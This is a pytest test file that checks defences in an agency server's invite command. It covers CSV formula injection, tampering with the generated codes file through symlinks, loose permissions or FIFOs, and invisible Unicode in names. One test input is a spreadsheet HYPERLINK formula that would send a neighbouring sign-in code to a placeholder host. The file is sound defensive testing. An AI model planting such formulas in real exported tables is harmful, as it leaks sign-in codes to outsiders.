# SPDX-License-Identifier: EUPL-1.2
"""Attacks by somebody who writes the list of people to invite, or who may write beside it."""

import csv
import os
from pathlib import Path

import pytest

from sync.server.__main__ import main
from sync.server.config import ConfigError
from sync.server.host.identity import read_agency
from sync.server.operator import admin, invite_list, staff_list
from sync.server.operator.staff_record import staff
from sync.trust.person.agency import SignInCode

HEAD = "namn;titel;enhet\n"


@pytest.fixture
def place(tmp_path: Path) -> tuple[Path, Path]:
    """The data folder of an agency, and where a list of people is."""
    admin.init(tmp_path / "server", keys=tmp_path / "keys")
    (tmp_path / "lists").mkdir()
    return tmp_path / "server", tmp_path / "lists" / "folk.csv"


def invited(place: tuple[Path, Path], text: str) -> int:
    place[1].write_text(text, encoding="utf-8")
    return main(["invite", "--data", str(place[0]), "--csv", str(place[1])])


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ('=HYPERLINK("http://x.example/"&E3;"Åsa")', """'=HYPERLINK("http://x.example/"&E3;"Åsa")"""),
        ("+46 8 123", "'+46 8 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("＝1", "'＝1"),
        ("Åsa, =1+2", "Åsa, '=1+2"),
        ('Åsa";=1', """Åsa";'=1"""),
        ("Åsa Berg-Ek", "Åsa Berg-Ek"),
        ("Drift + stöd", "Drift + stöd"),
    ],
)
def test_attack_a_name_is_no_formula_in_the_table_of_codes(place: tuple[Path, Path], name: str, written: str) -> None:
    """A formula could send away the codes beside it. The person is invited by the true name; a second run works."""
    quoted = '"' + name.replace('"', '""') + '"'
    for _ in range(2):
        assert invited(place, f"{HEAD}{quoted};{quoted};{quoted}\n") == 0
    with place[1].with_name("folk.codes.csv").open(encoding="utf-8-sig", newline="") as f:
        (row,) = csv.DictReader(f, delimiter=";")
    assert [row[field] for field in ("name", "title", "unit")] == [written] * 3
    assert staff_list.read_list(place[1])[0].who.name == name


@pytest.mark.skipif(os.name != "posix", reason="a server runs on Linux")
def test_attack_codes_that_somebody_else_put_beside_the_list_are_not_signed(
    place: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Somebody who may write to the folder knows the list, and the agency's fingerprint, which every code has."""
    data, source = place
    source.write_text(f"{HEAD}Åsa Öberg;Handläggare;Tillsyn\n", encoding="utf-8")
    people, codes = staff_list.read_list(source), source.with_name("folk.codes.csv")
    known = SignInCode.fresh(read_agency(data).pk)
    table, elsewhere = invite_list._table(people, [known]), source.with_name("other.csv")

    def is_refused(why: str) -> None:
        assert main(["invite", "--data", str(data), "--csv", str(source)]) == 1
        assert why in capsys.readouterr().err
        assert main(["invites", "--data", str(data)]) == 0
        assert capsys.readouterr().out == ""

    elsewhere.write_bytes(table)
    elsewhere.chmod(0o600)
    codes.symlink_to(elsewhere)
    is_refused("is a link")
    codes.unlink()
    codes.write_bytes(table)
    codes.chmod(0o666)
    is_refused("can be written by others")
    codes.chmod(0o600)
    with monkeypatch.context() as patch:
        patch.setattr(os, "geteuid", lambda: os.getuid() + 1)
        with pytest.raises(ConfigError, match="can be written by others"):
            invite_list._read_codes(codes, people, read_agency(data))
    codes.unlink()
    os.mkfifo(codes)
    is_refused("can be written by others")
    codes.unlink()
    assert main(["invite", "--data", str(data), "--csv", str(source)]) == 0
    assert known.format() not in codes.read_text(encoding="utf-8-sig")


@pytest.mark.parametrize("hidden", list("\u034f\u115f\u1160\u17b4\u180b\u2800\u3164\ufe0f\uffa0\U000e0100"))
def test_attack_a_name_has_no_character_that_is_drawn_as_nothing(hidden: str) -> None:
    """Otherwise two people would look the same, and no namesake would be reported."""
    with pytest.raises(ConfigError, match="cannot be seen"):
        staff(name=f"Åsa Öberg{hidden}", title="", unit="")
